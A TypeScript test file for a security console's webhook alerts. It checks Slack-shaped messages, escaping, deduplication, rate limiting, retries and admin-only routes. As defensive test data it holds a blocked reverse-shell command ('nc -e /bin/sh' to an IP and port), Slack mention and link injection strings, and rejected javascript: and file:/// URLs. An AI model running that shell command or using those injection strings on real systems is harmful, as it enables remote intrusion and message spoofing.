// Webhook alerts (docs/console.md), as tests that run on any database, against a real receiver on
// 127.0.0.1: Slack-shaped, escaped, deduplicated, rate limited, retried, never on the ingest path.

import { afterEach, describe, expect, it } from "vitest";
import type { AlertSettings } from "../../src/console/alerts/dispatcher.js";
import { fanOut } from "../../src/console/repositories/alerts.js";
import type { BuildOptions } from "../../src/console/server.js";
import type { AdminSession, TestConsole } from "./helpers.js";
import { createToken, execEvent, register, sendEvents, setupAdmin } from "./helpers.js";
import type { Receiver } from "./webhook-receiver.js";
import { sleep, startReceiver, until } from "./webhook-receiver.js";

export const FAST: Partial<AlertSettings> = { tickMs: 50, timeoutMs: 1000, retryBaseMs: 100, maxAttempts: 4, perMinute: 100, windowMs: 60_000 };

export async function settled(c: TestConsole): Promise<boolean> {
  // One statement, one snapshot: two queries could see the outbox before and alert_events after the
  // fan-out's transaction moved an alert from one to the other, and call that settled.
  const row = await c.db.get<{ pending: number; waiting: number }>(
    "SELECT (SELECT COUNT(*) FROM webhook_outbox WHERE state IN ('pending', 'sending')) AS pending, (SELECT COUNT(*) FROM alert_events) AS waiting",
  );
  return Number(row?.pending) === 0 && Number(row?.waiting) === 0;
}

export async function addWebhook(c: TestConsole, s: AdminSession, url: string, includeAlerts = false): Promise<{ id: string }> {
  const res = await c.app.inject({ method: "POST", url: "/api/admin/webhooks", headers: s.headers, payload: { url, includeAlerts } });
  expect(res.statusCode, res.body).toBe(201);
  return res.json();
}

export function defineAlertTests(name: string, makeConsole: (options: BuildOptions) => Promise<TestConsole>): void {
  describe(`webhook alerts (${name})`, () => {
    const cleanup: (() => Promise<void>)[] = [];
    afterEach(async () => {
      for (const f of cleanup.splice(0).reverse()) await f();
    });

    async function setup(alerts: Partial<AlertSettings> = {}, behavior?: Parameters<typeof startReceiver>[0]) {
      const receiver = await startReceiver(behavior);
      cleanup.push(() => receiver.close());
      const c = await makeConsole({ alerts: { ...FAST, ...alerts } });
      cleanup.push(() => c.close());
      const admin = await setupAdmin(c);
      const { token } = await createToken(c, admin, "web-prod");
      const e = await register(c, token);
      return { c, admin, e, receiver };
    }

    it("a blocked event produces one Slack-shaped message; allowed and (by default) alert events none", async () => {
      const { c, admin, e, receiver } = await setup();
      await addWebhook(c, admin, receiver.url);
      await sendEvents(c, e.enforcerKey, 1, [execEvent({ verdict: "allowed", exe: "/bin/ls", argv: ["ls"] }), execEvent(), execEvent({ verdict: "alert", exe: "/usr/bin/curl", argv: ["curl"] })]);
      await until("delivery", () => receiver.delivered.length === 1);
      await until("settled", () => settled(c));
      await sleep(200);
      expect(receiver.delivered).toHaveLength(1);
      const msg = receiver.delivered[0]?.body;
      expect(typeof msg?.text).toBe("string");
      expect(msg?.text).toContain("Blocked: exec by `/usr/bin/nc` in *web-prod / web*");
      expect(msg?.text).toContain("`nc -e /bin/sh 10.0.0.1 4444`");
      expect(Array.isArray(msg?.blocks)).toBe(true);
      expect(msg?.blocks[0]).toMatchObject({ type: "section", text: { type: "mrkdwn" } });
      expect(JSON.stringify(msg?.blocks)).toContain("exec.deny[0]");
      const metrics = await c.app.inject({ method: "GET", url: "/metrics" });
      expect(metrics.body).toMatch(/^vigil_console_webhook_deliveries_total\{result="ok"\} 1$/m);
      expect(metrics.body).toMatch(/^vigil_console_webhook_pending 0$/m);
      const list = await c.app.inject({ method: "GET", url: "/api/admin/webhooks", headers: admin.headers });
      expect(list.json().webhooks[0]).toMatchObject({ source: "console", includeAlerts: false, pending: 0, last: { state: "delivered", attempts: 1 } });
      // The URL's secret path is not shown back.
      expect(list.json().webhooks[0].url).not.toContain("secretpart");
    });

    it("alert-verdict events too when the webhook asks for them", async () => {
      const { c, admin, e, receiver } = await setup();
      await addWebhook(c, admin, receiver.url, true);
      await sendEvents(c, e.enforcerKey, 1, [execEvent({ verdict: "alert", exe: "/usr/bin/curl", argv: ["curl", "x"] })]);
      await until("delivery", () => receiver.delivered.length === 1);
      expect(receiver.delivered[0]?.body.text).toContain("Alert: exec by `/usr/bin/curl`");
    });

    it("50 identical blocked events make one message; a retried batch adds nothing; the window's end sends the count", async () => {
      const { c, admin, e, receiver } = await setup({ windowMs: 1500 });
      await addWebhook(c, admin, receiver.url);
      for (let b = 0; b < 5; b++) {
        const res = await sendEvents(c, e.enforcerKey, 1 + b * 10, Array.from({ length: 10 }, (_, i) => execEvent({ pid: 100 + b * 10 + i })));
        expect(res.json()).toMatchObject({ accepted: 10 });
      }
      // The same batch again (an enforcer retrying): stored once, alerted once.
      expect((await sendEvents(c, e.enforcerKey, 41, Array.from({ length: 10 }, () => execEvent()))).json()).toMatchObject({ accepted: 0, duplicates: 10 });
      await until("settled", () => settled(c));
      await sleep(300);
      expect(receiver.delivered).toHaveLength(1);
      expect(receiver.delivered[0]?.body.text).toContain("(10 times)");
      // When the window closes: one more message with the count of the other 40.
      await until("the window's summary", () => receiver.delivered.length === 2, 5000);
      expect(receiver.delivered[1]?.body.text).toContain("40 times more in the last");
      await sleep(1800);
      expect(receiver.delivered).toHaveLength(2);
      expect(await c.db.get<{ n: number }>("SELECT COUNT(*) AS n FROM alert_windows")).toEqual({ n: 0 });
    });

    it("holds to the rate limit and summarizes what it held back", async () => {
      const { c, admin, e, receiver } = await setup({ perMinute: 3 });
      const hook = await addWebhook(c, admin, receiver.url);
      const events = Array.from({ length: 10 }, (_, i) => execEvent({ exe: `/usr/bin/tool${i}`, argv: [`tool${i}`] }));
      await sendEvents(c, e.enforcerKey, 1, events);
      await until("settled", () => settled(c));
      await sleep(300);
      expect(receiver.delivered).toHaveLength(3);
      const held = await c.db.get<{ held_messages: number; held_events: number }>("SELECT held_messages, held_events FROM webhooks WHERE id = ?", [hook.id]);
      expect(held).toEqual({ held_messages: 7, held_events: 7 });
      // A minute later the summary goes out first (fan-out with the clock moved on; on PostgreSQL
      // a round of the replica's own loop may hold the fan-out lock for a moment).
      let queued = 0;
      await until("the summary", async () => (queued += await fanOut(c.db, { windowMs: 60_000, perMinute: 3 }, Date.now() + 61_000)) > 0);
      expect(queued).toBe(1);
      const summary = await c.db.get<{ kind: string; payload: string }>("SELECT kind, payload FROM webhook_outbox WHERE kind = 'held'");
      expect(JSON.parse(summary?.payload ?? "{}").text).toContain("7 more alert messages (7 events) held back by the rate limit of 3 messages a minute");
    });

    it("a slow receiver never slows ingest; failed posts are retried with backoff until delivered", async () => {
      // 1st request: no answer within the timeout; 2nd: 503; 3rd: taken.
      const { c, admin, e, receiver } = await setup({ timeoutMs: 1500 }, (n) => (n === 1 ? { status: 200, delayMs: 20_000 } : n === 2 ? { status: 503 } : { status: 200 }));
      await addWebhook(c, admin, receiver.url);
      await sendEvents(c, e.enforcerKey, 1, [execEvent()]);
      await until("the first post", () => receiver.requests === 1);
      // Ingest while the receiver hangs: every batch answers long before the post times out.
      const started = Date.now();
      let slowest = 0;
      for (let b = 0; b < 20; b++) {
        const t = Date.now();
        const res = await sendEvents(c, e.enforcerKey, 2 + b * 50, Array.from({ length: 50 }, (_, i) => execEvent({ exe: `/x/${b}`, pid: i })));
        expect(res.statusCode).toBe(200);
        slowest = Math.max(slowest, Date.now() - t);
      }
      expect(Date.now() - started).toBeLessThan(1500);
      expect(slowest).toBeLessThan(750);
      await until("all delivered", () => settled(c), 15_000);
      const first = await c.db.get<{ attempts: number; state: string; last_error: string | null }>("SELECT attempts, state, last_error FROM webhook_outbox ORDER BY id LIMIT 1");
      expect(first).toMatchObject({ state: "delivered", last_error: null });
      expect(Number(first?.attempts)).toBeGreaterThanOrEqual(2);
      expect(receiver.delivered).toHaveLength(21);
      const metrics = (await c.app.inject({ method: "GET", url: "/metrics" })).body;
      expect(metrics).toMatch(/^vigil_console_webhook_deliveries_total\{result="ok"\} 21$/m);
      expect(metrics).toMatch(/^vigil_console_webhook_deliveries_total\{result="failed"\} [1-9]\d*$/m);
    }, 30_000);

    it("a receiver that is down: bounded retries, then given up with the reason", async () => {
      const { c, admin, e, receiver } = await setup({ maxAttempts: 3, retryBaseMs: 50 });
      const url = receiver.url;
      await receiver.close();
      await addWebhook(c, admin, url);
      await sendEvents(c, e.enforcerKey, 1, [execEvent()]);
      await until("given up", () => settled(c), 10_000);
      const row = await c.db.get<{ attempts: number; state: string; last_error: string }>("SELECT attempts, state, last_error FROM webhook_outbox");
      expect(row).toMatchObject({ attempts: 3, state: "failed" });
      expect(row?.last_error).toMatch(/ECONNREFUSED \(attempt 3 of 3\)/);
      expect((await c.app.inject({ method: "GET", url: "/metrics" })).body).toMatch(/^vigil_console_webhook_deliveries_total\{result="failed"\} 3$/m);
    });

    it("escapes argv, paths and names for Slack: no mention, link or markup from the attacker", async () => {
      const { c, admin, e, receiver } = await setup();
      await addWebhook(c, admin, receiver.url);
      const evil = ["sh", "<!channel>", "<!here|x>", "<@U0123ABC>", "<https://evil.example|click here>", "a&b", "`code`", "line\nbreak"];
      await sendEvents(c, e.enforcerKey, 1, [
        execEvent({ exe: "/tmp/<!everyone>", argv: evil }),
        { vigil: 1, time: "2026-12-04T15:29:00.000Z", kind: "file", verdict: "blocked", rule: "files.readOnly[0]", pid: 7, ppid: 1, uid: 0, exe: "/bin/sh", argv: ["sh"], argvTruncated: false, cwd: "/", path: "/etc/<!channel>", operation: "open-write", pattern: "/etc/**" },
      ]);
      await until("two deliveries", () => receiver.delivered.length === 2);
      for (const { raw, body } of receiver.delivered) {
        const all = `${body.text}\n${JSON.stringify(body.blocks)}`;
        expect(raw).not.toMatch(/<!|<@|<https/);
        expect(all).not.toMatch(/<(?!\/)/);
        expect(all).not.toContain("\n break");
      }
      const exec = receiver.delivered.find((d) => d.body.text.includes("exec"))?.body.text ?? "";
      expect(exec).toContain("&lt;!channel&gt;");
      expect(exec).toContain("&lt;https://evil.example|click here&gt;");
      expect(exec).toContain("a&amp;b");
      expect(exec).toContain("line\\nbreak");
      expect(exec).toContain("\u02cbcode\u02cb");
      expect(exec).toContain("/tmp/&lt;!everyone&gt;");
      const file = receiver.delivered.find((d) => d.body.text.includes("file"))?.body.text ?? "";
      expect(file).toContain("/etc/&lt;!channel&gt; (open-write)");
    });

    it("webhooks: validated URLs, a test message, removal; every route needs an admin", async () => {
      const { c, admin, receiver } = await setup();
      for (const bad of ["ftp://example.com/x", "not a url", "javascript:alert(1)", "file:///etc/passwd"]) {
        const res = await c.app.inject({ method: "POST", url: "/api/admin/webhooks", headers: admin.headers, payload: { url: bad } });
        expect(res.statusCode, bad).toBe(400);
        expect(res.json().error).toMatch(/^webhook URL: /);
      }
      expect((await c.app.inject({ method: "POST", url: "/api/admin/webhooks", headers: admin.headers, payload: { url: receiver.url, extra: 1 } })).statusCode).toBe(400);
      const hook = await addWebhook(c, admin, receiver.url);
      for (const [method, url] of [["GET", "/api/admin/webhooks"], ["POST", `/api/admin/webhooks/${hook.id}/test`], ["DELETE", `/api/admin/webhooks/${hook.id}`]] as const) {
        expect((await c.app.inject({ method, url })).statusCode, `${method} ${url}`).toBe(401);
        if (method !== "GET") expect((await c.app.inject({ method, url, headers: { cookie: admin.cookie } })).statusCode, `${method} ${url} without CSRF`).toBe(403);
      }
      const test = await c.app.inject({ method: "POST", url: `/api/admin/webhooks/${hook.id}/test`, headers: admin.headers });
      expect(test.json()).toEqual({ ok: true, status: 200, error: null });
      expect(receiver.delivered[0]?.body.text).toContain("test message from the console (sent by admin)");
      expect((await c.app.inject({ method: "DELETE", url: `/api/admin/webhooks/${hook.id}`, headers: admin.headers })).statusCode).toBe(200);
      expect((await c.app.inject({ method: "DELETE", url: `/api/admin/webhooks/${hook.id}`, headers: admin.headers })).statusCode).toBe(404);
      expect((await c.app.inject({ method: "POST", url: `/api/admin/webhooks/${hook.id}/test`, headers: admin.headers })).statusCode).toBe(404);
    });

    it("VIGIL_CONSOLE_WEBHOOK_URL is the env webhook: used like the others, not removable on the page", async () => {
      const receiver = await startReceiver();
      cleanup.push(() => receiver.close());
      const c = await makeConsole({ alerts: FAST, webhookUrl: receiver.url });
      cleanup.push(() => c.close());
      const admin = await setupAdmin(c);
      const list = await c.app.inject({ method: "GET", url: "/api/admin/webhooks", headers: admin.headers });
      expect(list.json().webhooks).toMatchObject([{ id: "env", source: "env" }]);
      expect(list.json().settings).toEqual({ dedupWindowMinutes: 1, messagesPerMinute: 100, retentionDays: 30 });
      expect((await c.app.inject({ method: "DELETE", url: "/api/admin/webhooks/env", headers: admin.headers })).statusCode).toBe(409);
      const { token } = await createToken(c, admin, "g");
      const e = await register(c, token);
      await sendEvents(c, e.enforcerKey, 1, [execEvent()]);
      await until("delivery", () => receiver.delivered.length === 1);
    });
  });
}
